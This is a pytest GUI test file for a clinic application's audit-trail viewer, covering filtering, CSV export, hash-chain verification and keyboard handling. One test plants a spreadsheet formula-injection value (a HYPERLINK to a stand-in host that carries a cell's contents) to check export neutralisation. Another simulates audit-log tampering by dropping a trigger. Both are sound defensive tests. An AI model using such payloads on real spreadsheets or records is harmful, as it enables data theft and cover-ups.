"""The audit viewer on a real SQLite clinic: entries filtered by patient, user and days (checked
against the service's own answers), refusals in words next to the filters, the CSV export (the
matching entries, formula cells neutralised, the export recorded in the trail, a file replaced only
when the user says so), the chain check intact and broken, the detail pane, the keyboard.

Only the file chooser and the replace question are answered by the test; the rest runs for real.
"""

from __future__ import annotations

import csv
import dataclasses
from collections.abc import Iterator
from datetime import date, datetime, time, timedelta, timezone
from pathlib import Path

import pytest
import shiboken6
from PySide6.QtCore import QDate, QPoint, Qt
from PySide6.QtWidgets import QApplication, QDialog, QWidget
from pytestqt.qtbot import QtBot
from sqlalchemy import text

from calcitrack.domain.audit_trail.audit import AuditAction, AuditEntry
from calcitrack.domain.codes import Role
from calcitrack.domain.entities import Patient
from calcitrack.services.accounts.user_service import ensure_user
from calcitrack.services.audit_service import AuditService
from calcitrack.services.context import ServiceContext
from calcitrack.services.patient_service import PatientService
from calcitrack.store.unit_of_work import UnitOfWork
from calcitrack.ui.audit.audit_query import FROM, PATIENT, USER
from calcitrack.ui.audit.audit_table_model import (
    ACTION_COLUMN,
    CHANGES_COLUMN,
    PATIENT_COLUMN,
    RECORD_COLUMN,
    USER_COLUMN,
    WHEN_COLUMN,
)
from calcitrack.ui.audit.audit_viewer_dialog import AuditViewerDialog
from calcitrack.ui.common.task_runner import InlineTaskRunner, Runner, TaskRunner
from tests.support.accounts import open_signed_in
from tests.support.sample_chart import sample_chart
from tests.ui.held_runner import HeldRunner

TODAY = date(2026, 11, 20)
MONTH_AGO = TODAY - timedelta(days=30)
NURSE = "nurse.ana"


class Clock:
    """The units of work's time: noon UTC of the day set (the same calendar day in any time zone
    from UTC−11 to UTC+11), a minute on per transaction."""

    def __init__(self) -> None:
        self.at(TODAY)

    def at(self, day: date) -> None:
        self.now = datetime.combine(day, time(12), tzinfo=timezone.utc)

    def __call__(self) -> datetime:
        moment, self.now = self.now, self.now + timedelta(minutes=1)
        return moment


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def ctx(sqlite_url: str, clock: Clock) -> Iterator[ServiceContext]:
    """The one place the test clinic is opened and its user signed in (a physician who is also
    admin), with the test's clock and calendar."""
    clinic = open_signed_in(sqlite_url)
    yield ServiceContext(UnitOfWork(clinic.engine, clock=clock), clinic.user, lambda: TODAY)
    clinic.close()


def _as(ctx: ServiceContext, username: str, roles: Role) -> ServiceContext:
    user = ensure_user(ctx.uow, username, username.split(".")[-1].title(), roles)
    return dataclasses.replace(ctx, actor=user)


def _patient(mrn: str, **changes: object) -> Patient:
    return dataclasses.replace(sample_chart(mrn).patient, **changes)


@pytest.fixture
def history(ctx: ServiceContext, clock: Clock) -> ServiceContext:
    """#1 OLD-1 created 40 days ago; #2 A-1 created and #3 B-2 created by the nurse 5 days ago;
    #4 A-1's family name changed 2 days ago; #5 a PDF of B-2 by the nurse today."""
    nurse = _as(ctx, NURSE, Role.NURSE)
    patients = PatientService(ctx)
    clock.at(TODAY - timedelta(days=40))
    patients.create(_patient("OLD-1"))
    clock.at(TODAY - timedelta(days=5))
    a1 = patients.create(_patient("A-1"))
    PatientService(nurse).create(_patient("B-2"))
    clock.at(TODAY - timedelta(days=2))
    patients.update(dataclasses.replace(a1, family_name="Cadório-Silva"))
    clock.at(TODAY)
    AuditService(nurse).record(
        AuditAction.PDF, table_name="visits", record_id=1, patient_mrn="B-2",
        details={"file": "B-2_2026-11-20.pdf"},
    )  # fmt: skip
    return ctx


def _refuse_file_dialog(_suggested: str) -> str:
    raise AssertionError("a test must never open the real file dialog")


def _refuse_question(_path: Path) -> bool:
    raise AssertionError("nothing should have asked to replace a file")


def _viewer(qtbot: QtBot, ctx: ServiceContext, runner: Runner | None = None) -> AuditViewerDialog:
    dialog = AuditViewerDialog(
        AuditService(ctx),
        runner or InlineTaskRunner(),
        usernames=[ctx.actor.username, NURSE],
        today=lambda: TODAY,
    )
    dialog.choose_file = _refuse_file_dialog  # type: ignore[method-assign]
    dialog.confirm_replace = _refuse_question  # type: ignore[method-assign]
    qtbot.addWidget(dialog)
    return dialog


def _shown(qtbot: QtBot, ctx: ServiceContext, runner: Runner | None = None) -> AuditViewerDialog:
    dialog = _viewer(qtbot, ctx, runner)
    with qtbot.waitActive(dialog):
        dialog.show()
        dialog.activateWindow()
    return dialog


def _ids(dialog: AuditViewerDialog) -> list[int]:
    return [dialog.model.entry(row).id for row in range(dialog.model.rowCount())]


def _cell(dialog: AuditViewerDialog, row: int, column: int) -> str:
    return str(dialog.model.index(row, column).data())


def _entries(ctx: ServiceContext, **filters: object) -> list[AuditEntry]:
    return AuditService(ctx).entries(**filters)  # type: ignore[arg-type]


def _enter(qtbot: QtBot, widget: QWidget) -> None:
    qtbot.keyClick(widget, Qt.Key.Key_Return)


def _type_into(qtbot: QtBot, widget: QWidget, text_: str) -> None:
    widget.setFocus()
    qtbot.keyClick(widget, Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    qtbot.keyClicks(widget, text_)


def _shows_red(widget: QWidget) -> bool:
    """Some of the widget's pixels, as drawn, are clearly red."""
    image = widget.grab().toImage()
    return any(
        (c := image.pixelColor(x, y)).red() > 140 and c.green() < 90 and c.blue() < 90
        for y in range(image.height())
        for x in range(image.width())
    )


# ------------------------------------------------------------------ listing and filters


def test_it_opens_on_the_last_30_days_newest_first(qtbot: QtBot, history: ServiceContext) -> None:
    dialog = _shown(qtbot, history)
    expected = _entries(history, since=MONTH_AGO, until=TODAY, newest_first=True)
    assert _ids(dialog) == [e.id for e in expected] == [5, 4, 3, 2]  # OLD-1's creation is older
    assert dialog.count_label.text() == "4 entries"
    assert dialog.windowTitle() == "Audit trail" and not dialog.isModal()
    pdf = expected[0]
    assert [_cell(dialog, 0, c) for c in range(6)] == [
        pdf.occurred_at.astimezone().strftime("%Y-%m-%d %H:%M:%S"),
        NURSE,
        "PDF generated",
        "visits #1",
        "B-2",
        "file: B-2_2026-11-20.pdf",
    ]
    assert (_cell(dialog, 1, ACTION_COLUMN), _cell(dialog, 1, CHANGES_COLUMN)) == (
        "Changed",
        "family_name: Cadório → Cadório-Silva",
    )
    assert (_cell(dialog, 1, RECORD_COLUMN), _cell(dialog, 2, USER_COLUMN)) == (
        f"patients #{expected[1].record_id}",
        NURSE,
    )
    assert not dialog.model.flags(dialog.model.index(0, 0)) & Qt.ItemFlag.ItemIsEditable


def test_filtering_by_patient_lists_only_that_patients_entries(
    qtbot: QtBot, history: ServiceContext
) -> None:
    dialog = _shown(qtbot, history)
    _type_into(qtbot, dialog.filters.patient_edit, "A-1")
    _enter(qtbot, dialog.filters.patient_edit)
    expected = _entries(history, patient_mrn="A-1", since=MONTH_AGO, until=TODAY, newest_first=True)
    assert _ids(dialog) == [e.id for e in expected] == [4, 2]
    assert {_cell(dialog, r, PATIENT_COLUMN) for r in range(2)} == {"A-1"}
    assert dialog.count_label.text() == "2 entries"
    dialog.filters.patient_edit.clear()
    _enter(qtbot, dialog.filters.patient_edit)
    assert _ids(dialog) == [5, 4, 3, 2]


def test_filtering_by_user_lists_only_what_that_user_did(
    qtbot: QtBot, history: ServiceContext
) -> None:
    dialog = _shown(qtbot, history)
    combo = dialog.filters.user_combo
    assert [combo.itemText(i) for i in range(combo.count())] == [
        "All users",
        history.actor.username,
        NURSE,
    ]
    _type_into(qtbot, combo, NURSE)
    _enter(qtbot, combo)
    expected = _entries(history, user=NURSE, since=MONTH_AGO, until=TODAY, newest_first=True)
    assert _ids(dialog) == [e.id for e in expected] == [5, 3]
    assert [_cell(dialog, r, ACTION_COLUMN) for r in range(2)] == ["PDF generated", "Created"]
    combo.setCurrentIndex(0)  # All users
    _enter(qtbot, combo)
    assert _ids(dialog) == [5, 4, 3, 2]


def test_filtering_by_days_each_end_optional_and_oldest_first_on_request(
    qtbot: QtBot, history: ServiceContext
) -> None:
    dialog = _shown(qtbot, history)
    panel = dialog.filters
    qtbot.mouseClick(panel.from_check, Qt.MouseButton.LeftButton)  # From: any day
    assert not panel.from_edit.isEnabled()
    _enter(qtbot, panel.to_edit)
    assert _ids(dialog) == [e.id for e in _entries(history, until=TODAY, newest_first=True)]
    assert _ids(dialog) == [5, 4, 3, 2, 1]

    qtbot.mouseClick(panel.from_check, Qt.MouseButton.LeftButton)
    two_days_ago = TODAY - timedelta(days=2)
    panel.from_edit.setDate(QDate(two_days_ago))
    panel.to_edit.setDate(QDate(two_days_ago))
    _enter(qtbot, panel.from_edit)  # Enter in a date field applies
    assert _ids(dialog) == [e.id for e in _entries(history, since=two_days_ago, until=two_days_ago)]
    assert _ids(dialog) == [4]
    assert dialog.count_label.text() == "1 entry"

    qtbot.mouseClick(panel.to_check, Qt.MouseButton.LeftButton)  # To: any day
    panel.from_edit.setDate(QDate(TODAY - timedelta(days=5)))
    qtbot.mouseClick(panel.newest_check, Qt.MouseButton.LeftButton)
    qtbot.mouseClick(panel.apply_button, Qt.MouseButton.LeftButton)
    assert _ids(dialog) == [2, 3, 4, 5]

    panel.from_edit.setDate(QDate(TODAY + timedelta(days=1)))
    _enter(qtbot, panel.from_edit)
    assert _ids(dialog) == [] and dialog.count_label.text() == "No entries match the filters"
    assert dialog.detail.toPlainText() == ""


def test_a_from_day_after_the_to_day_is_refused_without_asking_the_database(
    qtbot: QtBot, history: ServiceContext
) -> None:
    runner = HeldRunner()
    dialog = _shown(qtbot, history, runner)
    runner.take().release()  # the first listing
    panel = dialog.filters
    panel.from_edit.setDate(QDate(TODAY))
    panel.to_edit.setDate(QDate(TODAY - timedelta(days=10)))
    with qtbot.waitSignal(dialog.failure_shown) as shown:
        _enter(qtbot, panel.to_edit)
    assert runner.tasks == []  # nothing asked
    message = "From: 2026-11-20 is after To (2026-11-10): no day is in between"
    assert shown.args == [message]
    assert panel.message_label.text() == message and panel.message_label.isVisible()
    assert panel.marked() == [FROM] and _shows_red(panel.message_label)
    assert panel.from_edit.hasFocus()
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)  # refused the same way
    assert runner.tasks == [] and panel.marked() == [FROM]
    panel.to_edit.setDate(QDate(TODAY))  # the mark goes when a day is changed
    assert panel.marked() == [] and not panel.message_label.isVisible()


def test_an_unknown_mrn_or_user_is_named_next_to_the_filters(
    qtbot: QtBot, history: ServiceContext
) -> None:
    dialog = _shown(qtbot, history)
    panel = dialog.filters
    _type_into(qtbot, panel.patient_edit, "NOPE-1")
    _enter(qtbot, panel.patient_edit)
    assert panel.message_label.text() == "Patient MRN: no patient with MRN 'NOPE-1'"
    assert panel.message_label.isVisible() and _shows_red(panel.message_label)
    assert panel.marked() == [PATIENT]
    assert _ids(dialog) == []  # not the rows of the filters before
    qtbot.keyClick(panel.patient_edit, Qt.Key.Key_Backspace)  # editing the MRN clears the mark
    assert panel.marked() == [] and not panel.message_label.isVisible()

    panel.patient_edit.clear()
    _type_into(qtbot, panel.user_combo, "nobody")
    _enter(qtbot, panel.user_combo)
    assert panel.message_label.text() == "User: no user 'nobody'"
    assert panel.marked() == [USER]

    _type_into(qtbot, panel.patient_edit, "A-1")  # both given: the refusal names the right one
    _enter(qtbot, panel.patient_edit)
    assert panel.marked() == [USER]
    _type_into(qtbot, panel.user_combo, NURSE)
    _type_into(qtbot, panel.patient_edit, "NOPE-2")
    _enter(qtbot, panel.patient_edit)
    assert panel.marked() == [PATIENT]


def test_a_listing_cut_at_the_limit_says_so(qtbot: QtBot, history: ServiceContext) -> None:
    dialog = _viewer(qtbot, history)
    dialog.limit = 3
    dialog.show()
    assert _ids(dialog) == [5, 4, 3]
    assert dialog.count_label.text() == "Showing the newest 3 of more; narrow the filters"
    qtbot.mouseClick(dialog.filters.newest_check, Qt.MouseButton.LeftButton)
    _enter(qtbot, dialog.filters.newest_check)
    assert _ids(dialog) == [2, 3, 4]
    assert dialog.count_label.text() == "Showing the oldest 3 of more; narrow the filters"
    dialog.limit = 4  # exactly as many as match: not cut
    _enter(qtbot, dialog.filters.newest_check)
    assert dialog.count_label.text() == "4 entries"


def test_a_role_that_may_not_read_the_trail_is_told_so(qtbot: QtBot, ctx: ServiceContext) -> None:
    nurse = _as(ctx, NURSE, Role.NURSE)
    dialog = _shown(qtbot, nurse)
    assert dialog.message_label.isVisible()
    refusal = dialog.message_label.text()
    assert refusal.startswith("Not allowed: ") and "audit trail" in refusal
    assert _shows_red(dialog.message_label) and _ids(dialog) == []
    qtbot.mouseClick(dialog.verify_button, Qt.MouseButton.LeftButton)
    assert dialog.message_label.text() == refusal
    assert dialog.verify_button.isEnabled()


# ------------------------------------------------------------------ the selected entry


def test_the_detail_pane_shows_every_change_of_the_selected_entry(
    qtbot: QtBot, history: ServiceContext
) -> None:
    dialog = _shown(qtbot, history)
    assert dialog.detail.toPlainText().startswith("Entry #5 ")  # the newest is selected
    dialog.table.setFocus()
    qtbot.keyClick(dialog.table, Qt.Key.Key_Down)
    update = _entries(history, patient_mrn="A-1")[-1]
    detail = dialog.detail.toPlainText()
    assert detail.splitlines()[0] == (
        f"Entry #4 · {update.occurred_at.astimezone():%Y-%m-%d %H:%M:%S} · "
        f"{history.actor.username} · Changed patients #{update.record_id} · patient A-1"
    )
    assert "  family_name: Cadório → Cadório-Silva" in detail
    assert "  version: 1 → 2" in detail
    assert f"Hash:          {update.hash}" in detail
    assert f"Previous hash: {update.prev_hash}" in detail
    tooltip = dialog.model.index(1, CHANGES_COLUMN).data(Qt.ItemDataRole.ToolTipRole)
    assert tooltip == "family_name: Cadório → Cadório-Silva\nversion: 1 → 2"
    qtbot.keyClick(dialog.table, Qt.Key.Key_Down)
    assert "Created with:\n  archived: no\n  calcinosis_onset_on:" in dialog.detail.toPlainText()
    assert "  mrn: B-2" in dialog.detail.toPlainText()


def test_clicking_a_header_sorts_and_the_selection_follows(
    qtbot: QtBot, history: ServiceContext
) -> None:
    dialog = _shown(qtbot, history)
    header = dialog.table.horizontalHeader()
    qtbot.mouseClick(
        header.viewport(),
        Qt.MouseButton.LeftButton,
        pos=QPoint(header.sectionViewportPosition(USER_COLUMN) + 10, header.height() // 2),
    )
    users = [_cell(dialog, r, USER_COLUMN) for r in range(4)]
    assert users in (sorted(users), sorted(users, reverse=True)) and len(set(users)) == 2
    selected = dialog.table.selectionModel().selectedRows()
    assert [dialog.model.entry(i.row()).id for i in selected] == [5]  # still the PDF entry
    assert dialog.detail.toPlainText().startswith("Entry #5 ")
    header.setSortIndicator(WHEN_COLUMN, Qt.SortOrder.DescendingOrder)
    assert _ids(dialog) == [5, 4, 3, 2]


# ------------------------------------------------------------------ export


def test_export_writes_the_matching_entries_neutralises_formulas_and_is_recorded(
    qtbot: QtBot, ctx: ServiceContext, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
    PatientService(ctx).create(_patient("=2+3", family_name=formula))
    PatientService(ctx).create(_patient("C-3"))
    [patient_entry] = _entries(ctx, patient_mrn="=2+3")
    dialog = _shown(qtbot, ctx)
    _type_into(qtbot, dialog.filters.patient_edit, "=2+3")
    _enter(qtbot, dialog.filters.patient_edit)
    suggested: list[str] = []

    def choose(proposal: str) -> str:
        suggested.append(proposal)
        return str(tmp_path / "trail")  # ".csv" is added

    dialog.choose_file = choose  # type: ignore[method-assign]
    with qtbot.waitSignal(dialog.export_finished) as finished:
        qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    path = tmp_path / "trail.csv"
    assert finished.args == [str(path), 1]
    assert Path(suggested[0]).name == "audit-trail-_2_3-2026-11-20.csv"
    assert dialog.message_label.text() == f"Exported 1 entry to {path}"

    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [int(r["entry"]) for r in rows] == [patient_entry.id]
    assert rows[0]["patient_mrn"] == "'=2+3"  # a spreadsheet shows it as text, runs nothing
    assert formula.replace('"', '\\"') in rows[0]["changes"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())

    export = _entries(ctx, newest_first=True, limit=1)[0]
    assert (export.action, export.table_name, export.patient_mrn) == ("export", "audit_log", "=2+3")
    assert export.actor_username == ctx.actor.username
    assert export.changes == {
        "format": "csv",
        "file": "trail.csv",
        "entries": 1,
        "filters": {"mrn": "=2+3", "since": "2026-10-21", "until": "2026-11-20"},
    }
    assert _ids(dialog) == [export.id, patient_entry.id]  # the listing shows the export too


def test_export_has_no_limit_and_follows_the_filters_not_the_order(
    qtbot: QtBot, history: ServiceContext, tmp_path: Path
) -> None:
    dialog = _viewer(qtbot, history)
    dialog.limit = 1
    dialog.show()
    qtbot.mouseClick(dialog.filters.from_check, Qt.MouseButton.LeftButton)
    _type_into(qtbot, dialog.filters.user_combo, history.actor.username)
    _enter(qtbot, dialog.filters.user_combo)
    assert _ids(dialog) == [4]
    expected = _entries(history, user=history.actor.username, until=TODAY)
    dialog.choose_file = lambda _s: str(tmp_path / "mine.csv")  # type: ignore[method-assign]
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    with (tmp_path / "mine.csv").open(encoding="utf-8-sig", newline="") as file:
        written = [int(row["entry"]) for row in csv.DictReader(file)]
    assert written == [e.id for e in expected] == [1, 2, 4]  # every match, in chain order
    assert dialog.message_label.text().startswith("Exported 3 entries to ")
    recorded = _entries(history, newest_first=True, limit=1)[0].changes
    assert recorded["filters"] == {"user": history.actor.username, "until": "2026-11-20"}


def test_an_existing_file_is_replaced_only_when_the_user_says_so(
    qtbot: QtBot, history: ServiceContext, tmp_path: Path
) -> None:
    target = tmp_path / "trail.csv"
    target.write_text("the auditor's notes\n", encoding="utf-8")
    dialog = _shown(qtbot, history)
    dialog.choose_file = lambda _s: str(target)  # type: ignore[method-assign]
    asked: list[Path] = []
    answer = False

    def confirm(path: Path) -> bool:
        asked.append(path)
        return answer

    dialog.confirm_replace = confirm  # type: ignore[method-assign]
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    assert asked == [target]
    assert target.read_text(encoding="utf-8") == "the auditor's notes\n"
    assert _entries(history, newest_first=True, limit=1)[0].action != "export"
    assert not dialog.message_label.isVisible()

    answer = True
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    assert asked == [target, target]
    assert target.read_text(encoding="utf-8-sig").startswith("entry,occurred_at_utc,user,")
    assert _entries(history, newest_first=True, limit=1)[0].action == "export"


def test_a_cancelled_chooser_writes_nothing_and_a_missing_folder_is_named(
    qtbot: QtBot, history: ServiceContext, tmp_path: Path
) -> None:
    dialog = _shown(qtbot, history)
    dialog.choose_file = lambda _s: ""  # type: ignore[method-assign]
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    assert not dialog.message_label.isVisible() and list(tmp_path.glob("*.csv")) == []
    dialog.choose_file = lambda _s: str(tmp_path / "gone" / "x.csv")  # type: ignore[method-assign]
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    assert dialog.message_label.text() == f"The folder {tmp_path / 'gone'} does not exist"
    assert _shows_red(dialog.message_label)
    assert _entries(history, newest_first=True, limit=1)[0].action != "export"


# ------------------------------------------------------------------ the chain


def test_verify_says_the_trail_is_intact_with_its_newest_hash(
    qtbot: QtBot, history: ServiceContext
) -> None:
    dialog = _shown(qtbot, history)
    with qtbot.waitSignal(dialog.chain_verified) as verified:
        qtbot.mouseClick(dialog.verify_button, Qt.MouseButton.LeftButton)
    assert verified.args[0].ok
    newest = _entries(history)[-1]
    assert dialog.message_label.text() == (
        "Audit trail intact: 5 entries, every audited row as the trail says, no signature to "
        "check, no anchor to check yet."
    )
    assert not _shows_red(dialog.message_label)
    found = [dialog.findings.item(row).text() for row in range(dialog.findings.count())]
    assert found[0] == f"Newest entry #5, hash {newest.hash}."


def test_verify_names_an_entry_edited_behind_the_applications_back(
    qtbot: QtBot, history: ServiceContext
) -> None:
    with history.uow.engine.begin() as conn:  # someone with the database password
        conn.execute(text("DROP TRIGGER audit_log_no_update"))
        conn.execute(text("UPDATE audit_log SET changes_json = '{}' WHERE id = 3"))
    dialog = _shown(qtbot, history)
    with qtbot.waitSignal(dialog.chain_verified) as verified:
        qtbot.mouseClick(dialog.verify_button, Qt.MouseButton.LeftButton)
    assert not verified.args[0].ok
    assert dialog.message_label.text() == "1 problem found:"
    message = dialog.findings.item(0).text()
    assert message.startswith("Audit trail broken at entry #3 (")
    assert "Created patients #" in message
    assert "its content does not match its hash" in message
    assert message.endswith("The 2 entries before it are intact.")
    assert _shows_red(dialog.message_label) and _shows_red(dialog.findings)
    selected = dialog.table.selectionModel().selectedRows()
    assert [dialog.model.entry(i.row()).id for i in selected] == [3]  # shown to the auditor
    assert dialog.detail.toPlainText().startswith("Entry #3 ")


# ------------------------------------------------------------------ keyboard and threads


def test_keyboard_find_tab_order_and_escape(qtbot: QtBot, history: ServiceContext) -> None:
    dialog = _shown(qtbot, history)
    panel = dialog.filters
    assert panel.patient_edit.hasFocus()
    order = [panel.patient_edit]
    for _ in range(16):  # Tab in a date field moves year → month → day first
        qtbot.keyClick(QApplication.focusWidget(), Qt.Key.Key_Tab)
        if QApplication.focusWidget() is not order[-1]:
            order.append(QApplication.focusWidget())
    assert order[:12] == [
        panel.patient_edit,
        panel.user_combo,
        panel.from_check,
        panel.from_edit,
        panel.to_check,
        panel.to_edit,
        panel.newest_check,
        panel.apply_button,
        dialog.table,
        dialog.detail,
        dialog.verify_button,
        dialog.export_button,
    ]
    dialog.table.setFocus()
    qtbot.keyClick(dialog.table, Qt.Key.Key_Return)  # no button is pressed from the table
    assert not dialog.message_label.isVisible() and dialog.isVisible()
    dialog.verify_button.setFocus()
    with qtbot.waitSignal(dialog.chain_verified):
        qtbot.keyClick(dialog.verify_button, Qt.Key.Key_Return)
    qtbot.keyClick(dialog.table, Qt.Key.Key_F, Qt.KeyboardModifier.ControlModifier)
    assert panel.patient_edit.hasFocus()
    with qtbot.waitSignal(dialog.rejected):
        qtbot.keyClick(panel.user_combo, Qt.Key.Key_Escape)
    assert not dialog.isVisible() and dialog.result() == QDialog.DialogCode.Rejected


def test_with_worker_threads_results_arrive_on_the_gui_thread(
    qtbot: QtBot, history: ServiceContext, tmp_path: Path
) -> None:
    runner = TaskRunner()
    try:
        dialog = _viewer(qtbot, history, runner)
        with qtbot.waitSignal(dialog.entries_loaded) as loaded:
            dialog.show()
        assert loaded.args == [4] and _ids(dialog) == [5, 4, 3, 2]
        dialog.choose_file = lambda _s: str(tmp_path / "t.csv")  # type: ignore[method-assign]
        with qtbot.waitSignal(dialog.export_finished):
            qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
            assert not dialog.export_button.isEnabled()  # busy until written
        assert dialog.export_button.isEnabled()
        qtbot.waitUntil(lambda: len(_ids(dialog)) == 5)  # the listing shows the export too
    finally:
        runner.shutdown()


def test_a_result_arriving_after_the_dialog_is_gone_is_dropped(
    qtbot: QtBot, history: ServiceContext
) -> None:
    runner = HeldRunner()
    dialog = AuditViewerDialog(AuditService(history), runner, today=lambda: TODAY)
    dialog.show()
    task = runner.take()
    dialog.deleteLater()
    qtbot.waitUntil(lambda: not shiboken6.isValid(dialog))
    task.release()  # nothing raised
